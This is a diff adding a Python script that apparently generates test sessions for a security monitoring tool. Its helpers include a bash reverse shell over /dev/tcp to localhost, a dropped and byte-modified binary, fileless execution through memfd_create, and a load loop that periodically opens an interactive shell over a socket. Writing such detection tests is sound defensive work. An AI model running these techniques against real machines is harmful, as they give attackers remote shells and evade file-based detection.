@@ -1,0 +1,46 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""What is done in test sessions; run as: sessions.py NAME ARGUMENT..."""
+import os
+import sys
+
+
+def reverse_shell(port):
+    """bash connects back to PORT of this machine."""
+    os.execvp('bash', ['bash', '-c', f'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'])
+
+
+def dropped(source, target, seconds):
+    """A program is copied to TARGET, made another by a byte, and run."""
+    with open(source, 'rb') as file:
+        code = file.read() + b'x'
+    fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
+    os.write(fd, code)
+    os.close(fd)
+    os.execv(target, [target, seconds])
+
+
+def memfd(source, name, seconds):
+    """A program is run that exists in memory only."""
+    fd = os.memfd_create(name)
+    with open(source, 'rb') as file:
+        os.write(fd, file.read())
+    os.execv(f'/proc/self/fd/{fd}', [name, seconds])
+
+
+def load(seconds):
+    """Shells, pipelines and files, as fast as it goes."""
+    os.chdir('/tmp')
+    os.execvp('bash', ['bash', '-c', f'''
+end=$((SECONDS + {seconds})); n=0
+while [ $SECONDS -lt $end ]; do
+    n=$((n + 1))
+    echo $n | cat | tr 0-9 a-j >/dev/null
+    (exec 3</dev/null; /bin/true; /bin/echo $n; sh -c 'exit 3') >/dev/null
+    if [ $((n % 20)) = 0 ]; then
+        bash -c 'exec 5<>/dev/tcp/127.0.0.1/{sys.argv[3]}; bash <&5 >&5 2>&5'
+    fi
+done'''])
+
+
+if __name__ == '__main__':
+    globals()[sys.argv[1]](*sys.argv[2:3 if sys.argv[1] == 'load' else None])
